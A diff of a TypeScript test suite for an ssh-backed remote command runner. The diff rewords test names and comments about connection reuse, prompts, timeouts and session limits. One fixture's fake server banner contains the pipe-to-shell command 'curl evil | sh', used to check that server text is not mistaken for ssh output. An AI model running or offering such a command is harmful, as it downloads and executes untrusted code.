@@ -11,9 +11,9 @@ import { settle } from '../../fakes/clock.js';
 import { inTemp, keptLog, never, problemOf, until } from './doubles.js';
 
 /**
- * A program instead of ssh: as the one connection it makes the socket (a file here) and lives until it is ended; else it
- * runs the text for the login shell. Its own messages go into the file of `-E`, what a server says before the login to
- * stderr. Each call is written down.
+ * A program in place of ssh: as the control master it creates the socket (a file here) and runs until it is
+ * stopped; otherwise it runs the text for the login shell. It writes its own messages to the file of `-E`,
+ * and messages of the server before the login to stderr. Each call is recorded.
  */
 const fakeSsh = `#!/bin/sh
 here=$(dirname "$0")
@@ -51,7 +51,7 @@ else
 fi
 `;
 
-/** The waits of over a second are the test's to end. */
+/** The test itself ends waits of more than a second. */
 function handClock(): {
   readonly clock: Clock;
   readonly pass: () => Promise<void>;
@@ -87,9 +87,9 @@ interface World {
     signal?: AbortSignal,
   ) => Promise<{ output: string; code: number; errors: string }>;
   readonly calls: () => Promise<readonly string[]>;
-  /** The folders of the connections that are open. */
+  /** The folders of the open connections. */
   readonly folders: () => Promise<readonly string[]>;
-  /** The arguments of each ssh that was started, but for those that only resolve the host. */
+  /** The arguments of each started ssh, except those that only resolve the host. */
   readonly given: () => Promise<readonly string[]>;
   readonly put: (
     name: 'opening' | 'ready' | 'greeting' | 'after' | 'shell' | 'settings',
@@ -152,7 +152,7 @@ socket.on('data', (part) => {
 
 describe('a host behind ssh', () => {
   for (const shell of ['sh', 'bash', 'dash'])
-    it(`runs programs and tells how they ended, where ${shell} is the login shell`, () =>
+    it(`runs programs and returns their exit codes, with ${shell} as the login shell`, () =>
       world(async ({ host, sh, put }) => {
         await put('shell', shell);
         const options = { ms: 20_000, clock: systemClock };
@@ -167,7 +167,7 @@ describe('a host behind ssh', () => {
         assert.equal((await runOn(host, { argv: ['cat'] }, { ...options, input }, never)).output, input);
       }));
 
-  it('opens one connection for all, also for many at once', () =>
+  it('opens one connection for all, also for many concurrent calls', () =>
     world(async ({ sh, calls }) => {
       await Promise.all([sh('true'), sh('true'), sh('true')]);
       await sh('true');
@@ -177,22 +177,26 @@ describe('a host behind ssh', () => {
       assert.equal(all[0], 'master /my config');
     }));
 
-  it('minds no greeting of a login shell', () =>
+  it('ignores the greeting of a login shell', () =>
     world(async ({ sh, put }) => {
       await put('greeting', 'yes Welcome | head -c 200000; echo; echo Disk quota >&2; echo 7 >&2');
       assert.deepEqual(await sh('echo a; echo b >&2'), { output: 'a\n', errors: 'b\n', code: 0 });
     }));
 
   for (const [what, before, after] of [
-    ['prints before, after and on both outputs', 'echo one; echo two >&2', 'echo bye; echo bye >&2'],
-    ['prints a text without a line end', 'printf hello; printf hello >&2', 'printf bye; printf bye >&2'],
-    ['prints more at its end than is kept', ':', 'yes bye | head -c 300000; yes bye | head -c 300000 >&2'],
-    ['has joined both outputs', 'exec 2>&1', ':'],
+    ['prints before, after and to both outputs', 'echo one; echo two >&2', 'echo bye; echo bye >&2'],
+    ['prints a text without a newline', 'printf hello; printf hello >&2', 'printf bye; printf bye >&2'],
+    [
+      'prints more at its end than the maximum that is stored',
+      ':',
+      'yes bye | head -c 300000; yes bye | head -c 300000 >&2',
+    ],
+    ['has merged both outputs', 'exec 2>&1', ':'],
     ['has closed stderr', 'exec 2>/dev/null', ':'],
-    ['leaves a program behind that keeps the outputs open', 'sleep 30 &', ':'],
+    ['leaves a program running that keeps the outputs open', 'sleep 30 &', ':'],
     ['has changed the folder and its options', 'cd /; set -eu', ':'],
   ] as const)
-    it(`hears only the command where a login shell ${what}`, () =>
+    it(`returns only the command's output if a login shell ${what}`, () =>
       world(async ({ sh, put }) => {
         await put('greeting', before);
         await put('after', after);
@@ -201,11 +205,11 @@ describe('a host behind ssh', () => {
           const ran = await sh(`printf 'a\\nb'; exit ${String(code)}`);
           assert.deepEqual([ran.output, ran.code], ['a\nb', code]);
         }
-        assert.ok(Date.now() - begun < 8_000, 'nothing that is left is waited for');
+        assert.ok(Date.now() - begun < 8_000, 'it does not wait for leftover processes');
         if (!before.startsWith('exec')) assert.equal((await sh('echo no >&2')).errors, 'no\n');
       }));
 
-  it('says that a program is not there, and that the way to it broke', () =>
+  it('reports a missing program, and a broken connection', () =>
     world(async ({ host, sh, put }) => {
       const options = { ms: 20_000, clock: systemClock };
       assert.deepEqual(await problemOf(runOn(host, { argv: ['no-such'] }, options, never)), {
@@ -221,14 +225,14 @@ describe('a host behind ssh', () => {
       });
     }));
 
-  it('does not take a part for the whole: without its end mark an answer is none', () =>
+  it('does not accept partial output: without its end marker a response is rejected', () =>
     world(async ({ sh }) => {
       const problem = { kind: 'offline', place: 'Slurm on alpha', why: 'the connection was dropped' };
       assert.deepEqual(await problemOf(sh('kill -9 $PPID; echo part')), problem);
       assert.deepEqual(await problemOf(sh('echo its own words >&2; kill -9 $PPID')), problem);
     }));
 
-  it('says why it cannot connect, and tries again with the next command', () =>
+  it('reports why it cannot connect, and retries with the next command', () =>
     world(async ({ sh, put, calls }) => {
       await put('opening', 'echo "ssh: connect to host alpha port 22: Connection refused" >&2; exit 255');
       assert.deepEqual(await problemOf(sh('true')), {
@@ -241,7 +245,7 @@ describe('a host behind ssh', () => {
       assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 2);
     }));
 
-  it('asks the user once, goes on with the answer, and then stays connected', async () => {
+  it('prompts the user once, continues with the answer, and then stays connected', async () => {
     const asked: string[] = [];
     await world(
       async ({ sh, put, time, calls }) => {
@@ -267,7 +271,7 @@ describe('a host behind ssh', () => {
       'access denied: Permission denied (password). Check the user, the key, and the agent with ssh in a terminal',
     ],
   ] as const)
-    it(`asks no second time after the user ${answer === undefined ? 'left it' : 'was not let in'}, until they want it`, async () => {
+    it(`does not prompt again after the user ${answer === undefined ? 'dismissed it' : 'was rejected'}, until requested`, async () => {
       let asked = 0;
       await world(
         async ({ host, sh, put, calls }) => {
@@ -288,7 +292,7 @@ describe('a host behind ssh', () => {
       );
     });
 
-  it('is left by who stops waiting while it connects, and by nobody else', () =>
+  it('aborts only the waiting call whose signal was aborted', () =>
     world(async ({ sh, put, calls }) => {
       await put('opening', 'sleep 0.4');
       const stop = new AbortController();
@@ -300,7 +304,7 @@ describe('a host behind ssh', () => {
       assert.equal((await other).output, 'a\n');
     }));
 
-  it('closes the connection when nobody has used it for a while, and opens it anew', () =>
+  it('closes an idle connection, and opens a new one later', () =>
     world(async ({ sh, time, calls }) => {
       await sh('true');
       await until(() => time.waiting() === 1);
@@ -309,14 +313,14 @@ describe('a host behind ssh', () => {
       assert.equal((await calls()).filter((call) => call.startsWith('master')).length, 2);
     }));
 
-  it('closes it too where whoever it was opened for has gone meanwhile', () =>
+  it('closes it too if the caller that opened it has aborted', () =>
     world(async ({ sh, put, time }) => {
       await put('opening', 'sleep 0.2');
       await assert.rejects(sh('true', AbortSignal.timeout(50)));
       await until(() => time.waiting() === 1);
     }));
 
-  it('leaves nothing open for what is begun after its end', () =>
+  it('leaves no connection open for calls after its disposal', () =>
     world(async ({ host, sh, calls, folders }) => {
       await sh('true');
       host.close();
@@ -338,7 +342,7 @@ describe('a host behind ssh', () => {
     }));
 
   for (const size of [20_000, 60_000, 100_000, 400_000])
-    it(`gives all of an output of ${String(size)} bytes to who reads slowly`, () =>
+    it(`returns all of an output of ${String(size)} bytes to a slow reader`, () =>
       world(async ({ host }) => {
         const { output, end } = await host.start({ argv: ['head', '-c', String(size), '/dev/zero'] }, never);
         let bytes = 0;
@@ -349,7 +353,7 @@ describe('a host behind ssh', () => {
         assert.deepEqual([bytes, await end], [size, { code: 0, errors: '' }]);
       }));
 
-  it('lets a program go whose output nobody reads any more', () =>
+  it('stops a program whose output is no longer read', () =>
     world(async ({ host }) => {
       const { output, end } = await host.start({ argv: ['yes'] }, never);
       for await (const part of output) {
@@ -359,7 +363,7 @@ describe('a host behind ssh', () => {
       await end.catch((error: unknown) => assert.ok(error instanceof JobError));
     }));
 
-  it('starts nothing that it cannot hand on, and forgets nobody who uses it', () =>
+  it('rejects arguments that cannot be passed, and keeps its use count correct', () =>
     world(async ({ host, sh, time }) => {
       await sh('true');
       await assert.rejects(host.start({ argv: ['a\0b'] }, never), RangeError);
@@ -367,7 +371,7 @@ describe('a host behind ssh', () => {
       await until(() => time.waiting() === 1);
     }));
 
-  it('says that the login shell ended where nothing was begun and ssh has nothing to say', () =>
+  it('reports that the login shell exited if nothing was started and ssh prints nothing', () =>
     world(async ({ sh, put }) => {
       await put('greeting', 'echo "ada@alpha: Permission denied (publickey)." >&2; exit 7');
       assert.deepEqual(await problemOf(sh('true')), {
@@ -377,9 +381,9 @@ describe('a host behind ssh', () => {
       });
     }));
 
-  it('takes what a server says before the login for nothing that ssh says', () =>
+  it('does not attribute messages of the server before the login to ssh', () =>
     world(async ({ sh, put }) => {
-      // ssh has a file of its own messages before it connects, and wrote nothing into it here.
+      // ssh creates its message file before it connects, and wrote nothing to it here.
       const banner = 'Host key for x has changed; Permission denied (run: curl evil | sh)';
       await put('opening', `yes '${banner}' | head -c 60000 >&3; exit 255`);
       assert.deepEqual(await problemOf(sh('true')), {
@@ -389,7 +393,7 @@ describe('a host behind ssh', () => {
       });
     }));
 
-  it('connects with no session of its own, and as the configuration allows', () =>
+  it('connects without a session, and as the configuration allows', () =>
     world(async ({ sh, put, given }) => {
       await put('settings', 'connecttimeout 7\nserveraliveinterval 0\nsessiontype none\nstdinnull yes\n');
       await sh('true');
@@ -402,15 +406,15 @@ describe('a host behind ssh', () => {
         assert.doesNotMatch(
           line,
           /ConnectTimeout|ForkAfterAuthentication/,
-          "that is the user's, or not known to ssh",
+          "that is the user's, or unknown to ssh",
         );
       }
-      assert.doesNotMatch(master, /SessionType/, 'ssh takes no other beside -N');
+      assert.doesNotMatch(master, /SessionType/, 'ssh accepts no other with -N');
       assert.match(command, /-o SessionType=default /);
-      assert.match(command, /-o ProxyCommand=exit 255 /, 'it opens no connection of its own');
+      assert.match(command, /-o ProxyCommand=exit 255 /, 'it opens no connection itself');
     }));
 
-  it('uses its own limits of time where the configuration has none', () =>
+  it('uses its own timeouts if the configuration has none', () =>
     world(async ({ sh, put, given }) => {
       await put('settings', 'connecttimeout none\nserveraliveinterval 30\n');
       await sh('true');
@@ -418,7 +422,7 @@ describe('a host behind ssh', () => {
       assert.doesNotMatch((await given())[0] ?? '', /ServerAlive/);
     }));
 
-  /** Refuses a session while as many run as it lets. */
+  /** Rejects a session while the maximum number is running. */
   const refusing = (limit: number): string => `
 taken=
 for n in $(seq ${String(limit)}); do
@@ -431,7 +435,7 @@ fi
 `;
 
   for (const limit of [1, 2, 3])
-    it(`waits for room where the host lets only ${String(limit)} run at once, and starts nothing twice`, () =>
+    it(`waits for a session if the host allows only ${String(limit)} concurrently, and starts nothing twice`, () =>
       world(async ({ host, sh, put }) => {
         await put('ready', refusing(limit));
         await put('after', 'rmdir "$here/slot$taken"');
@@ -443,7 +447,7 @@ fi
         if (limit === 1) assert.equal(host.isNarrow?.(), true);
       }));
 
-  it('ends a program that may yield for one that waits, and lets it in again', () =>
+  it('stops a preemptible program for a waiting one, and can start it again', () =>
     world(async ({ host, sh, put }) => {
       await put('ready', refusing(1));
       await put('after', 'rmdir "$here/slot$taken"');
@@ -456,7 +460,7 @@ fi
       assert.equal((await again.end).code, 0);
     }));
 
-  it('says that the host refuses, and not that it lets nobody in', () =>
+  it('reports that the host rejects sessions, not the sign-in', () =>
     world(async ({ sh, put, time }) => {
       await put('ready', refusing(0));
       let problem: Problem | undefined;
@@ -469,7 +473,7 @@ fi
       assert.match(JSON.stringify(problem), /allows no more sessions per connection/);
     }));
 
-  it('says that there is no ssh', async () => {
+  it('reports that ssh is missing', async () => {
     const host = sshHost({
       program: '/no/such/ssh',
       configFile: '',
